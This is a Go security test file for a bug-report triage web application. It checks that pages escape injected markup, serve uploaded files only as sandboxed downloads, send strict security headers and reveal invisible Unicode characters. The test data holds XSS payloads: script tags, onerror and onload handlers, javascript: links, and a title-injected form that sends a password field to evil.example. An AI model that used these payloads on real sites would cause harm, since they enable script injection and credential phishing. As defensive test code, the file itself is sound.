package journey

import (
	"mime"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"bugbar/internal/blob"
	"bugbar/internal/casebook"
)

// policy is what every page carries, word for word.
const policy = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'"

// active is what of a page would run, load or be framed.
func (w *world) active(at, page string) {
	w.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		w.Errorf("%s: %v", at, err)
		return
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		for _, a := range n.Attr {
			w.harmless(at, n, a)
		}
		switch n.Data {
		case "script":
			if n.FirstChild != nil || !strings.HasPrefix(attribute(n, "src"), "/assets/") {
				w.Errorf("%s has a script that is none of ours", at)
			}
		case "style", "iframe", "object", "embed", "base", "img", "link", "meta":
			if n.Data != "link" && n.Data != "meta" || n.Parent.Data != "head" && n.Parent.Data != "noscript" {
				w.Errorf("%s has <%s>", at, n.Data)
			}
		}
	}
}

func attribute(n *html.Node, name string) string {
	for _, a := range n.Attr {
		if a.Key == name {
			return a.Val
		}
	}
	return ""
}

// local is what addresses on pages begin with.
var local = regexp.MustCompile(`^(/[^/\\]|/$|\?|#|$)`)

func (w *world) harmless(at string, n *html.Node, a html.Attribute) {
	w.Helper()
	switch {
	case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", strings.HasPrefix(a.Key, "hx-on"):
		w.Errorf("%s: <%s %s=%q>", at, n.Data, a.Key, a.Val)
	case a.Key == "href" || a.Key == "src" || a.Key == "action" || a.Key == "formaction" || a.Key == "hx-get" || a.Key == "hx-post":
		known := strings.HasPrefix(a.Val, "https://") && attribute(n, "rel") == "noopener noreferrer" // where the bar itself leads elsewhere
		if !local.MatchString(a.Val) && !known {
			w.Errorf("%s: <%s %s=%q>", at, n.Data, a.Key, a.Val)
		}
	}
}

// walked makes the tour without script, and gives each page to look.
func (w *world) walked(s sights, look func(at string, answer *http.Response, page string)) {
	w.Helper()
	people := map[string]*http.Client{"": w.client(), "root": w.signedIn("root"), "owner": w.signedIn("owner"), "reporter": w.client()}
	w.post(people["reporter"], "/status", url.Values{"key": {s.key}})
	for _, stop := range tour {
		address := s.replacer.Replace(stop.address)
		var answer *http.Response
		var page string
		if stop.form == nil {
			answer, page = w.get(people[stop.as], address)
		} else {
			form := must[url.Values](w)(url.ParseQuery(""))
			for name, values := range stop.form {
				for _, v := range values {
					form.Add(name, s.replacer.Replace(v))
				}
			}
			answer, page = w.post(people[stop.as], address, form)
		}
		if int64(answer.StatusCode) != max(stop.status, 200) {
			w.Errorf("%s as %q is answered %s", stop.address, stop.as, answer.Status)
		}
		look(stop.address, answer, page)
	}
}

func TestAttack08StoredXSS(t *testing.T) {
	t.Parallel()
	w := serve(t, casebook.Options{})
	s := w.rooted(true)
	root := w.signedIn("root")
	w.post(root, "/queue/view", url.Values{"name": {"<b onclick=alert(1)>"}, "q": {`"><script>alert(1)</script>`}})
	w.post(root, "/account/identity", url.Values{"name": {markup}, "email": {"a@b.example"}, "credit": {markup}})
	w.post(root, "/admin/setting", url.Values{"name": {"policy"}, "value": {markup + "\n\n[x](javascript:alert(1)) ![y](https://evil.example/y.png)\n\n<img src=x onerror=alert(1)>"}})
	w.post(root, "/admin/setting", url.Values{"name": {"contact"}, "value": {markup}})
	shown := 0
	w.walked(s, func(at string, answer *http.Response, page string) {
		w.active(at, page)
		if strings.Contains(page, "&lt;img src=x onerror=alert(2)&gt;") {
			shown++
		}
	})
	for _, query := range []string{"/queue?q=" + url.QueryEscape(markup), "/audit?kind=" + url.QueryEscape(markup), "/bar/walk?type=" + url.QueryEscape(markup), "/sign-in?next=" + url.QueryEscape("/"+markup), "/status?done=" + url.QueryEscape(markup), "/bar/" + url.PathEscape("<script>")} {
		_, page := w.get(root, query)
		w.active(query, page)
	}
	if shown < 8 {
		t.Errorf("only %d pages show the markup that they were given: the test looks at nothing", shown)
	}
}

func TestAttack09And17FilesAreOnlyDownloads(t *testing.T) {
	t.Parallel()
	w := serve(t, casebook.Options{})
	w.hire("lee", casebook.Triager)
	s := w.example("07-prompt-leak.md")
	for name, content := range map[string]string{
		"page.html": "<script>alert(1)</script>", "drawing.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, "sheet.xml": `<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>`,
		"paper.pdf": "%PDF-1.7 /OpenAction", "picture.webp": "RIFF....WEBPVP8L", "script.js": "alert(1)", "évil\"name.html": "<b>",
	} {
		ref := must[blob.Ref](w)(w.files.Put(t.Context(), strings.NewReader(content), blob.MaxFile))
		s.Files = append(s.Files, casebook.File{SHA256: ref.SHA256, Size: ref.Size, Name: name, Type: mime.TypeByExtension(name[strings.LastIndex(name, "."):])})
	}
	id := w.submit(s).ID
	lee := w.signedIn("lee")
	for _, f := range s.Files {
		answer, body := w.get(lee, "/case/"+id.String()+"/file/"+f.SHA256)
		if answer.StatusCode != http.StatusOK || int64(len(body)) != f.Size {
			t.Errorf("%s: %s, %d bytes", f.Name, answer.Status, len(body))
		}
		disposition, parameters, err := mime.ParseMediaType(answer.Header.Get("Content-Disposition"))
		if err != nil || disposition != "attachment" || parameters["filename"] != f.Name {
			t.Errorf("%s: Content-Disposition %q", f.Name, answer.Header.Get("Content-Disposition"))
		}
		for name, want := range map[string]string{"Content-Type": "application/octet-stream", "X-Content-Type-Options": "nosniff", "Content-Security-Policy": "default-src 'none'; sandbox", "Cross-Origin-Resource-Policy": "same-origin"} {
			if got := answer.Header.Get(name); got != want {
				t.Errorf("%s: %s is %q", f.Name, name, got)
			}
		}
	}
	_, page := w.get(lee, "/case/"+id.String())
	if strings.Contains(page, "<img") || strings.Contains(page, "<object") || strings.Contains(page, "<iframe") {
		t.Error("the page shows something of a file")
	}
	if answer, _ := w.get(w.client(), "/case/"+id.String()+"/file/"+s.Files[0].SHA256); answer.Request.URL.Path != "/sign-in" {
		t.Errorf("a stranger gets a file: %s", answer.Status)
	}
}

func TestAttack10MarkupInTitles(t *testing.T) {
	t.Parallel()
	w := serve(t, casebook.Options{})
	w.hire("lee", casebook.Triager)
	s := w.example("07-prompt-leak.md")
	s.Title = `</title><form action=https://evil.example><input name=password>`
	id := w.submit(s).ID
	w.settled()
	lee := w.signedIn("lee")
	for _, at := range []string{"/queue", "/case/" + id.String(), "/case/" + id.String() + "/thread"} {
		_, page := w.get(lee, at)
		w.active(at, page)
		root := must[*html.Node](w)(html.Parse(strings.NewReader(page)))
		for n := range root.Descendants() {
			if n.Type == html.ElementNode && n.Data == "input" && attribute(n, "name") == "password" {
				t.Errorf("%s has the reporter's form", at)
			}
		}
	}
}

func TestAttack27NothingToEmbed(t *testing.T) {
	t.Parallel()
	w := serve(t, casebook.Options{})
	s := w.rooted(false)
	asset := regexp.MustCompile(`/assets/[^"#]+`)
	w.walked(s, func(at string, answer *http.Response, page string) {
		want := map[string]string{
			"Content-Security-Policy": policy, "X-Frame-Options": "DENY", "X-Content-Type-Options": "nosniff", "Cross-Origin-Resource-Policy": "same-origin", "Cross-Origin-Opener-Policy": "same-origin",
			"Cache-Control": "no-store", "Referrer-Policy": "same-origin", "Access-Control-Allow-Origin": "",
		}
		if strings.Contains(at, "embed=1") { // the walk through the bar may be shown elsewhere: it knows nobody
			want["Content-Security-Policy"], want["X-Frame-Options"], want["Cross-Origin-Resource-Policy"] = strings.Replace(policy, "frame-ancestors 'none'", "frame-ancestors *", 1), "", "cross-origin"
			if strings.Contains(page, "<form") {
				t.Errorf("%s has a form that a click can be stolen for", at)
			}
		}
		for name, value := range want {
			if got := answer.Header.Get(name); got != value {
				t.Errorf("%s: %s is %q", at, name, got)
			}
		}
		for _, name := range asset.FindAllString(page, -1) {
			a, _ := w.get(w.client(), name)
			b, _ := w.get(w.signedInOnce("root"), name)
			if a.StatusCode != 200 || a.Header.Get("Etag") != b.Header.Get("Etag") || a.ContentLength != b.ContentLength || a.Header.Get("Cross-Origin-Resource-Policy") != "same-origin" {
				t.Errorf("%s differs by who asks, or may be embedded", name)
			}
		}
	})
}

func TestAttack31InvisibleTextIsShown(t *testing.T) {
	t.Parallel()
	w := serve(t, casebook.Options{})
	s := w.rooted(true)
	invisible := regexp.MustCompile("[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000E0000-\U000E007F]")
	w.walked(s, func(at string, _ *http.Response, page string) {
		if found := invisible.FindString(page); found != "" {
			t.Errorf("%s has %U that nobody sees", at, []rune(found))
		}
	})
	_, page := w.get(w.signedIn("root"), s.replacer.Replace("/case/{case}"))
	for _, want := range []string{`\u{202E}`, `\u{E0041}`, `\u{200B}`, `class="alert"`} {
		if !strings.Contains(page, want) {
			t.Errorf("the report does not show %s", want)
		}
	}
}
